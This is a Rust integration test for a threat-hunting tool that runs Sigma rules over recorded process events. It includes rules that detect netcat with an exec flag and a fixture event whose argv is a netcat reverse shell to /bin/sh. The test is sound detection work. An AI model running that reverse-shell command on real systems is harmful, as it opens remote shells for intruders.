//! `quarry hunt --sigma DIR` and `--explain ID`, run as the real binary over a store sealed
//! here (no recorder, no root).

// A test fails by panicking: unwrap is how it says what went wrong.
#![allow(clippy::unwrap_used)]

mod common;

use chrono::{TimeZone, Utc};
use quarry_store::schema::{ProcessEvent, ProcessFacts, ProcessRow, RowIdentity};
use quarry_store::{Partition, Store, Table};

const RULE: &str = r#"
title: Netcat with an exec flag
id: 6c1e2f7a-0000-4000-8000-5eed0000c11a
description: Written for this test.
tags: [attack.execution, attack.t1059.004]
logsource:
  product: linux
  category: process_creation
detection:
  selection_nc:
    Image|endswith: '/nc'
    CommandLine|contains: ' -e '
  selection_ncat:
    Image|endswith: '/ncat'
  condition: 1 of selection_*
level: high
"#;

const UNSUPPORTED: &str = r#"
title: Keywords only
id: 6c1e2f7a-0000-4000-8000-5eed0000c11b
logsource:
  product: linux
  category: process_creation
detection:
  keywords:
    - 'nc -e'
  condition: keywords
"#;

fn exec(ms: i64, pid: i32, path: &str, argv: &[&str]) -> (ProcessRow, ProcessFacts) {
    let t0 = Utc.with_ymd_and_hms(2026, 11, 2, 9, 0, 0).unwrap();
    let row = ProcessRow {
        id: RowIdentity {
            time: t0 + chrono::Duration::milliseconds(ms),
            ktime_ns: 5_000_000_000 + ms as u64 * 1_000_000,
            pid,
            tid: pid,
            comm: path.rsplit('/').next().unwrap().into(),
            cgroup_id: 1,
            container_id: None,
        },
        ppid: Some(1),
        start_ns: Some(pid as u64 * 1000),
        parent_start_ns: Some(1000),
        event: ProcessEvent::Exec {
            filename: path.into(),
            argv: argv.iter().map(|a| a.to_string()).collect(),
            argv_truncated: false,
            uid: 0,
            gid: 0,
            euid: 0,
            egid: 0,
        },
    };
    let facts = ProcessFacts {
        exe_path: Some(path.into()),
        ..Default::default()
    };
    (row, facts)
}

#[test]
fn hunt_runs_sigma_rules_and_explains_them() {
    let dir = tempfile::tempdir().unwrap();
    let store_dir = dir.path().join("store");
    let store = Store::create(&store_dir).unwrap();
    let (rows, facts): (Vec<_>, Vec<_>) = [
        exec(
            0,
            40,
            "/bin/nc",
            &["nc", "198.18.0.9", "4444", "-e", "/bin/sh"],
        ),
        exec(1, 41, "/bin/nc", &["nc", "-l", "4444"]),
        exec(2, 42, "/usr/bin/ncat", &["ncat", "-l"]),
    ]
    .into_iter()
    .unzip();
    let batch = quarry_store::schema::process_batch_with_facts("sigma-host", &rows, &facts);
    let t0 = rows[0].id.time;
    store
        .seal(
            &Partition::for_time(Table::Process, t0, "sigma-host"),
            &batch,
            1,
            0,
        )
        .unwrap();
    let rules = dir.path().join("sigma");
    std::fs::create_dir(&rules).unwrap();
    std::fs::write(rules.join("nc.yml"), RULE).unwrap();
    std::fs::write(rules.join("keywords.yml"), UNSUPPORTED).unwrap();

    let out = common::quarry()
        .arg("hunt")
        .arg("--store")
        .arg(&store_dir)
        .arg("--sigma")
        .arg(&rules)
        .args(["--no-builtin", "--format", "json"])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(
        out.status.code(),
        Some(4),
        "findings exit 4; stderr: {stderr}"
    );
    // The unsupported rule is named with its file, line, id and construct; the other ran.
    assert!(
        stderr.contains("keywords.yml:8:")
            && stderr.contains("6c1e2f7a-0000-4000-8000-5eed0000c11b")
            && stderr.contains("keyword search"),
        "{stderr}"
    );
    let findings: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let findings = findings.as_array().unwrap();
    let pids: Vec<i64> = findings
        .iter()
        .map(|f| f["pid"].as_i64().unwrap())
        .collect();
    assert_eq!(pids, [40, 42], "{findings:#?}");
    for f in findings {
        assert_eq!(f["rule"], "6c1e2f7a-0000-4000-8000-5eed0000c11a");
        assert_eq!(f["title"], "Netcat with an exec flag");
        assert_eq!(f["severity"], "high");
        assert_eq!(f["mitre"], serde_json::json!(["T1059.004"]));
        assert_eq!(f["source_table"], "process");
    }

    let out = common::quarry()
        .arg("hunt")
        .arg("--sigma")
        .arg(&rules)
        .args(["--explain", "6c1e2f7a-0000-4000-8000-5eed0000c11a"])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        stdout.contains("FROM execs e") && stdout.contains("ILIKE '%/ncat' ESCAPE"),
        "{stdout}"
    );

    let out = common::quarry()
        .arg("hunt")
        .arg("--sigma")
        .arg(&rules)
        .args(["--explain", "6c1e2f7a-0000-4000-8000-5eed0000c11b"])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains("was not converted") && stderr.contains("keyword search"),
        "{stderr}"
    );
}
